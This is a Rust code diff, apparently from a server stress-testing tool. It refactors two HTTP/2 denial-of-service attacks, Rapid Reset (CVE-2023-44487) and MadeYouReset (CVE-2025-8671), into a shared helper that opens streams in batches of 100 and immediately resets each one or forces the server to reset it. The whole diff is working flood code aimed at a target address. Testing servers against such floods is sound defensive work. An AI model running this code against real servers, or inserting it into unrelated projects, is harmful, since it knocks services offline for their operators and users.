@@ -391,43 +391,40 @@ pub fn empty_frames(addr: SocketAddr, budget: &Budget) -> AttackReport {
 
 /// CVE-2023-44487: open a stream and reset it at once, over and over.
 pub fn rapid_reset(addr: SocketAddr, budget: &Budget) -> AttackReport {
-    let Some(mut c) = connect(addr, &[]) else {
-        return setup_failed("rapid-reset");
-    };
-    let template = request(&c, "/", true, 1);
-    flood("rapid-reset", &mut c, budget, 200, move |i| {
-        let mut b = Vec::new();
-        for j in 0..100u64 {
-            let id = (2 * (i * 100 + j) + 1) as u32;
-            let mut h = template.clone();
-            h[5..9].copy_from_slice(&id.to_be_bytes());
-            b.extend(h);
-            b.extend(frame(
-                kind::RST_STREAM,
-                0,
-                id,
-                &ErrorCode::CANCEL.0.to_be_bytes(),
-            ));
-        }
-        b
+    stream_churn("rapid-reset", addr, budget, true, |id| {
+        frame(kind::RST_STREAM, 0, id, &ErrorCode::CANCEL.0.to_be_bytes())
     })
 }
 
 /// CVE-2025-8671 (MadeYouReset): valid streams followed by a frame that obliges the server to
 /// reset them (a zero WINDOW_UPDATE increment), so the reset counts as the server's own.
 pub fn made_you_reset(addr: SocketAddr, budget: &Budget) -> AttackReport {
+    stream_churn("made-you-reset", addr, budget, false, |id| {
+        frame(kind::WINDOW_UPDATE, 0, id, &0u32.to_be_bytes())
+    })
+}
+
+/// Opens streams 100 at a time (GET with END_STREAM or an open POST), each followed at once
+/// by `then(stream_id)`.
+fn stream_churn(
+    name: &'static str,
+    addr: SocketAddr,
+    budget: &Budget,
+    end_stream: bool,
+    then: fn(u32) -> Vec<u8>,
+) -> AttackReport {
     let Some(mut c) = connect(addr, &[]) else {
-        return setup_failed("made-you-reset");
+        return setup_failed(name);
     };
-    let template = request(&c, "/", false, 1);
-    flood("made-you-reset", &mut c, budget, 200, move |i| {
+    let template = request(&c, "/", end_stream, 1);
+    flood(name, &mut c, budget, 200, move |i| {
         let mut b = Vec::new();
         for j in 0..100u64 {
             let id = (2 * (i * 100 + j) + 1) as u32;
             let mut h = template.clone();
             h[5..9].copy_from_slice(&id.to_be_bytes());
             b.extend(h);
-            b.extend(frame(kind::WINDOW_UPDATE, 0, id, &0u32.to_be_bytes()));
+            b.extend(then(id));
         }
         b
     })
